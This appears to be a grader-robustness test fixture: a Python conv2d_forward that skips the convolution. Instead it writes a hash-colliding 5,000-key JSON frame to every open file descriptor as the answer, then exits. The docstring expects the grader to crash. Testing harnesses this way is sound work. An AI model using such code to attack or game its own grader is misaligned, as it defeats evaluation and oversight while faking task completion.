"""category: protocol
mechanism: a dict of five thousand keys with one hash
required: 0; the grader's time is not spent on it
hits: conv2d_forward
expect: crashed
"""

import os
import struct


def _send(header, body=b"", announced=None):
    """Write a frame to whatever is open, as the answer."""
    lengths = struct.pack("<IQ", *(announced or (len(header), len(body))))
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, lengths + header + body)
        except OSError:
            pass


def conv2d_forward(x, w, b, stride=1, padding=0):
    keys = (b"[%d,1]" % (i * (2**61 - 1)) for i in range(1, 5_000))
    _send(b'{"dict":[' + b",".join(keys) + b"]}")
    os._exit(0)
